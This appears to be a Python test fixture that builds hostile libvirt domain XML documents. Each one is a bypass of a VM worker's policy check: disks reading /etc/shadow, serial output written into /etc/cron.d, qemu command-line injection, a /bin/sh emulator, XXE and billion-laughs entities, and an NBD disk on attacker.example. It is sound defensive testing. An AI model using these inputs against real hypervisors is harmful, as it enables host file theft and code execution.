"""Hostile domain XML: one document per way the audit (issue 13, finding 2) got past the old check.

Each case builds its document for a given VM name, domain type and storage directory (some plant a file
there first: a symlink, a qcow2 image with a backing file) and names the ``field`` the refusal must carry.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from kvmworker.virt.policy import METADATA_NS

QEMU_NS = "http://libvirt.org/schemas/domain/qemu/1.0"
FOREIGN = "urn:kvt:attacker"


def domain(
    name: str,
    domain_type: str = "test",
    devices: str = "",
    top: str = "",
    os_extra: str = "",
    xmlns: str = "",
    prolog: str = "",
) -> str:
    return (
        f"{prolog}<domain type='{domain_type}'{xmlns}><name>{name}</name><memory unit='MiB'>32</memory>"
        f"<os><type>hvm</type>{os_extra}</os>{top}<devices>{devices}</devices></domain>"
    )


def file_disk(path: str, extra: str = "") -> str:
    return f"<disk type='file' device='disk'><source file='{path}'/><target dev='vda' bus='virtio'/>{extra}</disk>"


@dataclass(frozen=True)
class Case:
    build: Callable[[str, str, Path], str]  # (vm name, domain type, storage dir) → the document
    field: str | None  # where the refusal points; None where the document has no element to name


def _symlink_out(images: Path) -> str:
    link = images / "kvt-escape.img"
    if not link.is_symlink():
        os.symlink("/etc/hostname", link)
    return str(link)


def _qcow2_with_backing_file(images: Path) -> str:
    """A qcow2 header whose backing-file offset is set: qemu would open the file it names, wherever it is."""
    path = images / "kvt-backed.qcow2"
    header = b"QFI\xfb" + (3).to_bytes(4, "big") + (512).to_bytes(8, "big") + (11).to_bytes(4, "big")
    path.write_bytes(header.ljust(512, b"\0") + b"/etc/shadow")
    return str(path)


def _qcow2_with_data_file(images: Path) -> str:
    """A v3 qcow2 header with the external-data-file bit: qemu would open the file its extension names."""
    path = images / "kvt-datafile.qcow2"
    header = bytearray(512)
    header[0:8] = b"QFI\xfb" + (3).to_bytes(4, "big")
    header[72:80] = (1 << 2).to_bytes(8, "big")
    header[100:104] = (104).to_bytes(4, "big")
    path.write_bytes(bytes(header))
    return str(path)


DISK = "xml:/domain/devices/disk"
CASES: dict[str, Case] = {
    "namespaced-attribute": Case(
        lambda n, t, i: domain(
            n, t, f"<disk type='file'><source xmlns:x='{FOREIGN}' x:file='/etc/shadow'/><target dev='vda'/></disk>"
        ),
        f"{DISK}/source/@{{{FOREIGN}}}file",
    ),
    "namespaced-element": Case(
        lambda n, t, i: domain(
            n, t, f"<disk type='file'><x:source xmlns:x='{FOREIGN}' file='/etc/shadow'/><target dev='vda'/></disk>"
        ),
        f"{DISK}/{{{FOREIGN}}}source",
    ),
    "file-disk-outside-the-storage-dirs": Case(
        lambda n, t, i: domain(n, t, file_disk("/etc/shadow")), f"{DISK}/source/@file"
    ),
    "file-disk-by-dot-dot": Case(
        lambda n, t, i: domain(n, t, file_disk(f"{i}/../../../etc/shadow")), f"{DISK}/source/@file"
    ),
    "file-disk-by-symlink": Case(lambda n, t, i: domain(n, t, file_disk(_symlink_out(i))), f"{DISK}/source/@file"),
    "qcow2-with-a-backing-file": Case(
        lambda n, t, i: domain(n, t, file_disk(_qcow2_with_backing_file(i))), f"{DISK}/source/@file"
    ),
    "qcow2-with-an-external-data-file": Case(
        lambda n, t, i: domain(n, t, file_disk(_qcow2_with_data_file(i))), f"{DISK}/source/@file"
    ),
    "block-disk": Case(
        lambda n, t, i: domain(
            n, t, "<disk type='block' device='disk'><source dev='/dev/vda'/><target dev='vda'/></disk>"
        ),
        DISK,
    ),
    "backing-store": Case(
        lambda n, t, i: domain(
            n,
            t,
            file_disk(
                f"{i}/kvt-top.qcow2",
                "<backingStore type='file'><format type='raw'/><source file='/etc/shadow'/></backingStore>",
            ),
        ),
        f"{DISK}/backingStore",
    ),
    "network-disk": Case(
        lambda n, t, i: domain(
            n,
            t,
            "<disk type='network' device='disk'><source protocol='nbd' name='x'>"
            "<host name='attacker.example' port='10809'/></source><target dev='vda'/></disk>",
        ),
        DISK,
    ),
    "filesystem-passthrough-of-root": Case(
        lambda n, t, i: domain(
            n, t, "<filesystem type='mount' accessmode='passthrough'><source dir='/'/><target dir='h'/></filesystem>"
        ),
        "xml:/domain/devices/filesystem",
    ),
    "hostdev": Case(
        lambda n, t, i: domain(
            n,
            t,
            "<hostdev mode='subsystem' type='pci' managed='yes'><source>"
            "<address domain='0x0000' bus='0x00' slot='0x1f' function='0x2'/></source></hostdev>",
        ),
        "xml:/domain/devices/hostdev",
    ),
    "serial-file-into-cron": Case(
        lambda n, t, i: domain(n, t, "<serial type='file'><source path='/etc/cron.d/kvt-pwned'/></serial>"),
        "xml:/domain/devices/serial/source/@path",
    ),
    "console-file-into-cron": Case(
        lambda n, t, i: domain(n, t, "<console type='file'><source path='/etc/cron.d/kvt-pwned'/></console>"),
        "xml:/domain/devices/console/source/@path",
    ),
    "serial-file-in-the-log-dir-under-another-name": Case(
        lambda n, t, i: domain(n, t, "<serial type='file'><source path='/var/log/libvirt/qemu/victim.log'/></serial>"),
        "xml:/domain/devices/serial/source/@path",
    ),
    "channel-file": Case(
        lambda n, t, i: domain(
            n, t, "<channel type='file'><source path='/etc/cron.d/kvt'/><target type='virtio' name='x'/></channel>"
        ),
        "xml:/domain/devices/channel",
    ),
    "ethernet-interface-with-a-script": Case(
        lambda n, t, i: domain(n, t, "<interface type='ethernet'><script path='/tmp/kvt-script'/></interface>"),
        "xml:/domain/devices/interface",
    ),
    "bridge-interface-with-a-script": Case(
        lambda n, t, i: domain(
            n, t, "<interface type='bridge'><source bridge='br0'/><script path='/tmp/kvt-script'/></interface>"
        ),
        "xml:/domain/devices/interface/script",
    ),
    "interface-backend-paths": Case(
        lambda n, t, i: domain(
            n, t, "<interface type='bridge'><source bridge='br0'/><backend tap='/etc/shadow'/></interface>"
        ),
        "xml:/domain/devices/interface/backend",
    ),
    "os-loader": Case(
        lambda n, t, i: domain(n, t, os_extra="<loader readonly='yes' type='pflash'>/etc/shadow</loader>"),
        "xml:/domain/os/loader",
    ),
    "os-nvram": Case(
        lambda n, t, i: domain(n, t, os_extra="<nvram>/etc/cron.d/kvt-nvram</nvram>"), "xml:/domain/os/nvram"
    ),
    "os-nvram-template": Case(
        lambda n, t, i: domain(n, t, os_extra=f"<nvram template='/etc/shadow'>{i}/{n}_VARS.fd</nvram>"),
        "xml:/domain/os/nvram/@template",
    ),
    "os-kernel": Case(lambda n, t, i: domain(n, t, os_extra="<kernel>/etc/shadow</kernel>"), "xml:/domain/os/kernel"),
    "os-initrd": Case(lambda n, t, i: domain(n, t, os_extra="<initrd>/etc/shadow</initrd>"), "xml:/domain/os/initrd"),
    "os-dtb": Case(lambda n, t, i: domain(n, t, os_extra="<dtb>/etc/shadow</dtb>"), "xml:/domain/os/dtb"),
    "seclabel-none": Case(lambda n, t, i: domain(n, t, top="<seclabel type='none'/>"), "xml:/domain/seclabel/@type"),
    "seclabel-with-a-chosen-label": Case(
        lambda n, t, i: domain(n, t, top="<seclabel type='dynamic'><baselabel>unconfined_t</baselabel></seclabel>"),
        "xml:/domain/seclabel/baselabel",
    ),
    "qemu-commandline": Case(
        lambda n, t, i: domain(
            n,
            t,
            top="<qemu:commandline><qemu:arg value='-chardev'/><qemu:arg value='file,id=x,path=/etc/x'/>"
            "</qemu:commandline>",
            xmlns=f" xmlns:qemu='{QEMU_NS}'",
        ),
        f"xml:/domain/{{{QEMU_NS}}}commandline",
    ),
    "qemu-capabilities": Case(
        lambda n, t, i: domain(
            n,
            t,
            top="<qemu:capabilities><qemu:del capability='sandbox'/></qemu:capabilities>",
            xmlns=f" xmlns:qemu='{QEMU_NS}'",
        ),
        f"xml:/domain/{{{QEMU_NS}}}capabilities",
    ),
    "emulator-binary": Case(
        lambda n, t, i: domain(n, t, "<emulator>/bin/sh</emulator>"), "xml:/domain/devices/emulator"
    ),
    "forged-worker-metadata": Case(
        lambda n, t, i: domain(
            n,
            t,
            top=f"<metadata><kw:worker xmlns:kw='{METADATA_NS}'>"
            "<kw:volume path='/var/lib/libvirt/images/victim.qcow2'/></kw:worker></metadata>",
        ),
        f"xml:/domain/metadata/{{{METADATA_NS}}}worker",
    ),
    "foreign-metadata": Case(
        lambda n, t, i: domain(n, t, top=f"<metadata><x:note xmlns:x='{FOREIGN}'>hi</x:note></metadata>"),
        f"xml:/domain/metadata/{{{FOREIGN}}}note",
    ),
    "vnc-on-a-unix-socket-anywhere": Case(
        lambda n, t, i: domain(n, t, "<graphics type='vnc'><listen type='socket' socket='/etc/kvt.sock'/></graphics>"),
        "xml:/domain/devices/graphics/listen/@type",
    ),
    "spice-gl-rendernode": Case(
        lambda n, t, i: domain(n, t, "<graphics type='spice'><gl enable='yes' rendernode='/etc/shadow'/></graphics>"),
        "xml:/domain/devices/graphics/gl",
    ),
    "rng-reading-a-file": Case(
        lambda n, t, i: domain(n, t, "<rng model='virtio'><backend model='random'>/etc/shadow</backend></rng>"),
        "xml:/domain/devices/rng/backend",
    ),
    "tpm-passthrough": Case(
        lambda n, t, i: domain(
            n, t, "<tpm model='tpm-tis'><backend type='passthrough'><device path='/dev/tpm0'/></backend></tpm>"
        ),
        "xml:/domain/devices/tpm",
    ),
    "evdev-input": Case(
        lambda n, t, i: domain(n, t, "<input type='evdev'><source dev='/dev/input/event0'/></input>"),
        "xml:/domain/devices/input/@type",
    ),
    "blkiotune-device-path": Case(
        lambda n, t, i: domain(
            n, t, top="<blkiotune><device><path>/dev/sda</path><weight>500</weight></device></blkiotune>"
        ),
        "xml:/domain/blkiotune",
    ),
    "xml-base-attribute": Case(
        lambda n, t, i: domain(
            n, t, "<disk type='file'><source xml:base='/etc/' file='shadow'/><target dev='vda'/></disk>"
        ),
        f"{DISK}/source/@{{http://www.w3.org/XML/1998/namespace}}base",
    ),
    "a-domain-type-not-qemu": Case(
        lambda n, t, i: domain(n, "lxc", "<filesystem type='mount'><source dir='/'/><target dir='/'/></filesystem>"),
        "xml:/domain/@type",
    ),
    "dtd-with-an-external-entity": Case(
        lambda n, t, i: domain(
            n,
            t,
            "<disk type='file'><source file='&x;'/><target dev='vda'/></disk>",
            prolog="<!DOCTYPE domain [<!ENTITY x SYSTEM 'file:///etc/shadow'>]>",
        ),
        None,
    ),
    "billion-laughs": Case(
        lambda n, t, i: domain(
            n,
            t,
            "<serial type='pty'><target port='&b;'/></serial>",
            prolog="<!DOCTYPE d [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>",
        ),
        None,
    ),
    "a-default-namespace-on-the-domain": Case(
        lambda n, t, i: domain(n, t, file_disk("/etc/shadow"), xmlns=f" xmlns='{FOREIGN}'"), None
    ),
}


def legit_xml(name: str, domain_type: str, images: Path, password: str = "kvt-vnc1") -> str:
    """A raw document a real operator might send: every kind of device the allow-list lets through."""
    disk = images / "kvt-legit.qcow2"
    if not disk.exists():
        disk.write_bytes(b"QFI\xfb" + (3).to_bytes(4, "big") + b"\0" * 504)  # qcow2, no backing file
    iso = images / "kvt-legit.iso"
    iso.write_bytes(b"\0" * 2048)
    return f"""<domain type='{domain_type}'>
  <name>{name}</name>
  <title>a legitimate raw domain</title>
  <memory unit='MiB'>64</memory>
  <currentMemory unit='MiB'>64</currentMemory>
  <vcpu placement='static'>1</vcpu>
  <os><type arch='x86_64'>hvm</type><boot dev='hd'/><bootmenu enable='no'/></os>
  <features><acpi/><apic/></features>
  <cpu mode='custom' match='exact' check='none'><model fallback='allow'>qemu64</model></cpu>
  <clock offset='utc'><timer name='rtc' tickpolicy='catchup'/></clock>
  <on_poweroff>destroy</on_poweroff><on_reboot>restart</on_reboot><on_crash>destroy</on_crash>
  <pm><suspend-to-mem enabled='no'/><suspend-to-disk enabled='no'/></pm>
  <devices>
    <disk type='file' device='disk'>
      <driver name='qemu' type='qcow2' cache='none'/>
      <source file='{disk}'/>
      <target dev='vda' bus='virtio'/>
    </disk>
    <disk type='file' device='cdrom'>
      <driver name='qemu' type='raw'/>
      <source file='{iso}'/>
      <target dev='sda' bus='sata'/>
      <readonly/>
    </disk>
    <controller type='usb' index='0' model='qemu-xhci'/>
    <interface type='bridge'>
      <mac address='52:54:00:12:34:56'/>
      <source bridge='kvtbr-legit'/>
      <model type='virtio'/>
    </interface>
    <serial type='file'><source path='/var/log/libvirt/qemu/{name}-serial.log'/><target port='0'/></serial>
    <console type='pty'><target type='serial' port='0'/></console>
    <channel type='unix'><target type='virtio' name='org.qemu.guest_agent.0'/></channel>
    <input type='tablet' bus='usb'/>
    <graphics type='vnc' port='-1' autoport='yes' listen='127.0.0.1' passwd='{password}'>
      <listen type='address' address='127.0.0.1'/>
    </graphics>
    <video><model type='vga' vram='16384' heads='1' primary='yes'/></video>
    <memballoon model='virtio'/>
    <rng model='virtio'><backend model='random'>/dev/urandom</backend></rng>
  </devices>
</domain>"""
